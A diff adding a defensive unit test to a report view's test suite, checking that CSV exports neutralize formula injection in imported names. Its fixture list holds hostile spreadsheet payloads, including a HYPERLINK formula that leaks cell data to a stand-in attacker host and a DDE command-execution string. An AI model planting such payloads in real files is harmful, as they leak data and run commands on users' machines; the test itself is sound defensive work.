@@ -114,6 +114,76 @@ describe('ReportView', () => {
     ]);
   });
 
+  // Issue 37: names imported from a utility's file reach the browser's CSV; none may start a live formula.
+  const HOSTILE = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
+    '+1+1',
+    '@SUM(1,1)',
+    "=cmd|' /C calc'!A0",
+    '＝1+1',
+  ];
+
+  /** Each field of a CSV text (RFC 4180), the quotes taken off. */
+  function csvFields(text: string): string[] {
+    return [...text.replace(/^\uFEFF/, '').matchAll(/("(?:[^"]|"")*"|[^,\r\n]*)(,|\r\n)/g)].map(([, f]) =>
+      f!.startsWith('"') ? f!.slice(1, -1).replaceAll('""', '"') : f!,
+    );
+  }
+
+  it.each([
+    ['highest', 'lof_highest'],
+    ['mesh', 'area_mesh'],
+  ] as const)('defuses formulas in the %s report CSV, the imported names kept readable', async (type, id) => {
+    const results = {
+      lof_highest: HOSTILE.map((native, i) => ({
+        pipe_id: i + 1,
+        native_id: native,
+        material_type_code: 0,
+        diameter_mm: 152.4,
+        install_year: 1931,
+        length_m: 304.8,
+        lof: 0.31,
+        rank: 0.1,
+        breaks: 4,
+        risk_driver_names: ['-1+1'],
+      })),
+      area_mesh: HOSTILE.map((name, i) => ({
+        area_id: i + 1,
+        native_id: `@M-${i}`,
+        name,
+        pipes: 12,
+        length_m: 2500,
+        lof_12: 0.2,
+        expected_breaks_12: 0.22,
+        top_risk_share: 0.4,
+        risk_driver_names: ['Age'],
+        total_cof: 5000,
+        total_bre: 500,
+      })),
+    };
+    mockApi({
+      [QUERY]: { body: reportResponse(REPORT_PAGES[type].categories, { results: results as never }) },
+      [ROUTE]: { status: 204 },
+    });
+    const blobs: Blob[] = [];
+    vi.stubGlobal(
+      'URL',
+      class extends URL {
+        static override createObjectURL = (blob: Blob) => (blobs.push(blob), 'blob:csv');
+        static override revokeObjectURL = () => undefined;
+      },
+    );
+    vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(() => undefined);
+    open(type);
+    await table(id);
+    await userEvent.click(screen.getByTestId(`report-table-${id}-csv`));
+    const fields = csvFields(await readBlob(blobs[0]!));
+    expect(fields.length).toBeGreaterThan(HOSTILE.length * 5);
+    const live = fields.filter((f) => /^[=+\-@\t\r＝＋－＠]/.test(f) && !/^[+-]?[\d.]+%?$/.test(f));
+    expect(live).toEqual([]);
+    for (const name of HOSTILE) expect(fields).toContain(`'${name}`);
+  });
+
   it('tells the server the page was opened, once, with its screen area', async () => {
     const api = serve('lof');
     open('lof');
